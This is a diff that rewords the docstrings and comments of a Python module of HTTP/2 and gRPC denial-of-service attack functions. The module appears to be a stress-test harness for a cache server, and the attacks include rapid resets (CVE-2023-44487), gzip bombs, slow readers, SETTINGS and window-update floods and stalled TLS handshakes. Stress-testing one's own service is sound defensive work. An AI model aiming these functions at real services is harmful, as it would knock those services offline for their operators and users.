@@ -1,4 +1,4 @@
-"""Each attack is one function of a port: it does its worst once, and is called again and again until the time is over."""
+"""Attacks: each is a function that attacks a port once. The driver calls it repeatedly until the time is over."""
 
 from __future__ import annotations
 
@@ -33,10 +33,10 @@ from frames import (
     window,
 )
 
-# Set by the driver before the attacks begin: 4.99 MB, as large as a value may be, and 16 KB.
+# The keys of values that the driver sets before the attacks: 4.99 MB, about the maximum size, and 16 KB.
 LARGE, MIDDLE = b"large", b"middle"
 PLAIN = call(GET)
-# What one call of an attack keeps to, so that all are called often.
+# The time limit of one call of an attack, so that each attack is repeated often.
 SECONDS = 10
 
 
@@ -46,7 +46,7 @@ def gets(count: int, key: bytes, first: int = 1) -> bytes:
 
 
 def until_closed(link: Link, make: Callable[[int], bytes], pause_s: float = 0) -> None:
-    """Sends what `make` makes of 0, 1, 2 … until the server closes the connection or this call's time is over."""
+    """Send `make(0)`, `make(1)`, … until the server closes the connection or SECONDS are over."""
     end, turn = time.monotonic() + SECONDS, 0
     while time.monotonic() < end and not link.gone:
         link.send(make(turn))
@@ -55,7 +55,7 @@ def until_closed(link: Link, make: Callable[[int], bytes], pause_s: float = 0) -
 
 
 def batch_bomb(port: int) -> None:
-    """A pipelined batch of a few kilobytes that names the largest value 380 times."""
+    """Send pipelined batches of a few kilobytes that each request the largest value 380 times."""
     link = Link(port, (4, MOST_WINDOW))
     body = grpc(field(1, field(1, 7) + field(14, field(1, field(1, LARGE)) * 380)))
     link.send(window(0, 1 << 30) + frame(HEADERS, END_HEADERS, 1, call(PIPELINE)))
@@ -63,7 +63,7 @@ def batch_bomb(port: int) -> None:
 
 
 def unary_batch_bomb(port: int) -> None:
-    """The same by unary batches with windows that are closed."""
+    """Send the same batches as unary calls, with closed windows."""
     link = Link(port, (4, 0))
     body = grpc(field(1, field(1, LARGE)) * 380)
     block = call("/cache_client.Scs/GetBatch")
@@ -72,7 +72,7 @@ def unary_batch_bomb(port: int) -> None:
 
 
 def slow_reader(port: int) -> None:
-    """A hundred gets of the largest value with a closed window, then one byte of window every 8 s."""
+    """Send 100 gets of the largest value with a closed window, then open each by one byte every 8 s."""
     link = Link(port, (4, 0))
     link.send(window(0, MOST_WINDOW - 65_535) + gets(100, LARGE))
     for _ in range(3):
@@ -81,14 +81,14 @@ def slow_reader(port: int) -> None:
 
 
 def still_reader(port: int) -> None:
-    """A hundred gets of the largest value, the windows open, and nothing read from the socket."""
+    """Send 100 gets of the largest value with open windows, but never read from the socket."""
     link = Link(port, (4, MOST_WINDOW), reads=False)
     link.send(window(0, MOST_WINDOW - 65_535) + gets(100, LARGE))
     time.sleep(20)
 
 
 def unfinished_uploads(port: int) -> None:
-    """A hundred sets of 10 MB on one connection, none of which ends."""
+    """Begin 100 sets of 10 MB on one connection, and finish none."""
     link = Link(port)
     block, body = call(SET), b"\0\0\xa0\0\0" + bytes(900_000)
     link.send(b"".join(frame(HEADERS, END_HEADERS, n, block) for n in range(1, 201, 2)))
@@ -98,7 +98,7 @@ def unfinished_uploads(port: int) -> None:
 
 
 def repeated_metadata(port: int) -> None:
-    """One field of metadata by its index, 455 times a call."""
+    """Repeat one metadata field by its HPACK index, about 390 times per call."""
     first = PLAIN + header("grpc-timeout", "1" * 35, 0x40) + b"\xbe" * 390
     rest = PLAIN + b"\xbe" * 391
     link = Link(port)
@@ -106,7 +106,7 @@ def repeated_metadata(port: int) -> None:
 
 
 def settings_entries(port: int) -> None:
-    """SETTINGS of 2,730 changes of the window, nine a second, over a hundred answers that wait for it."""
+    """Send SETTINGS frames of 2,730 window changes, nine per second, while 100 responses wait for the window."""
     link = Link(port, (4, 0))
     link.send(window(0, MOST_WINDOW - 65_535) + gets(100, MIDDLE))
     many = settings(*((4, n & 1) for n in range(2_730)))
@@ -114,7 +114,7 @@ def settings_entries(port: int) -> None:
 
 
 def window_updates(port: int) -> None:
-    """Window updates of one byte for a hundred answers that wait."""
+    """Send window updates of one byte while 100 responses wait."""
     link = Link(port, (4, 0))
     link.send(window(0, MOST_WINDOW - 65_535) + gets(100, MIDDLE))
     many = window(1, 1) * 5_000
@@ -122,7 +122,7 @@ def window_updates(port: int) -> None:
 
 
 def rapid_resets(port: int) -> None:
-    """Calls that are reset as soon as they are made (CVE-2023-44487)."""
+    """Reset each call immediately after sending it (CVE-2023-44487)."""
     link = Link(port)
     until_closed(link, lambda t: b"".join(frame(HEADERS, 4, n, PLAIN) + reset(n) for n in range(1 + 200 * t, 201 + 200 * t, 2)))
 
@@ -138,14 +138,14 @@ def continuations(port: int) -> None:
 
 
 def gzip_bombs(port: int) -> None:
-    """Messages of 10 KB that unfold to 10.9 MB."""
+    """Send gzip messages of 10 KB that decompress to 10.9 MB."""
     body = grpc(gzip.compress(field(1, b"k") + field(15, bytes(10_900_000))), 1)
     block = call(GET, ("grpc-encoding", "gzip"))
     until_closed(Link(port), lambda t: b"".join(frame(HEADERS, 4, n, block) + in_data(n, body) for n in range(1 + 20 * t, 21 + 20 * t, 2)), 0.2)
 
 
 def unknown_fields(port: int) -> None:
-    """A request for a cache of two million fields that nobody knows."""
+    """Send a CreateCache request with two million unknown fields."""
     body = grpc(b"".join(field((1 << 18) + n, 1) for n in range(0, 2_000_000)))
     link = Link(port)
     link.send(frame(HEADERS, END_HEADERS, 1, call(CREATE_CACHE)))
@@ -154,7 +154,7 @@ def unknown_fields(port: int) -> None:
 
 
 def keys_exist(port: int) -> None:
-    """Ten megabytes of keys of one byte."""
+    """Send a KeysExist request of 10 MB: 3.4 million keys of one byte."""
     link = Link(port, (4, MOST_WINDOW))
     link.send(window(0, 1 << 30) + frame(HEADERS, END_HEADERS, 1, call(KEYS_EXIST)))
     link.upload(1, grpc(field(1, b"k") * 3_400_000))
@@ -162,7 +162,7 @@ def keys_exist(port: int) -> None:
 
 
 def large_pipeline_messages(port: int) -> None:
-    """Pipelined messages of 10 MB of sets."""
+    """Send a pipelined message of 10 MB of sets."""
     one = field(1, field(1, 3) + field(5, field(1, b"p") + field(2, b"v" * 1_000) + field(3, 60_000)))
     link = Link(port, (4, MOST_WINDOW))
     link.send(window(0, 1 << 30) + frame(HEADERS, END_HEADERS, 1, call(PIPELINE)))
@@ -171,7 +171,7 @@ def large_pipeline_messages(port: int) -> None:
 
 
 def idle_after_answers(port: int) -> None:
-    """Twenty connections that each had a hundred answers of 16 KB at once, and are then silent."""
+    """Open 20 connections, each of which receives 100 responses of 16 KB at once and is then idle."""
     links = [Link(port, (4, 0)) for _ in range(20)]
     for link in links:
         link.send(window(0, MOST_WINDOW - 65_535) + gets(100, MIDDLE) + settings((4, 1 << 20)))
@@ -181,7 +181,7 @@ def idle_after_answers(port: int) -> None:
 
 
 def malformed_headers(port: int) -> None:
-    """A good call, then one whose headers break a rule with DATA behind them, over and over."""
+    """Alternate a valid call with one that has an invalid header, followed by DATA."""
     bad = PLAIN + header("BAD", "x")
 
     def make(turn: int) -> bytes:
@@ -202,7 +202,7 @@ def random_frames(port: int) -> None:
 
 
 def half_handshakes(port: int) -> None:
-    """Connections that begin as TLS would, or say nothing, and stand still."""
+    """Open connections that send part of a TLS handshake, or one byte of the preface, and then nothing."""
     links = [Link(port, opens=False) for _ in range(50)]
     for n, link in enumerate(links):
         link.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"A" * 40 if n % 2 else b"P")
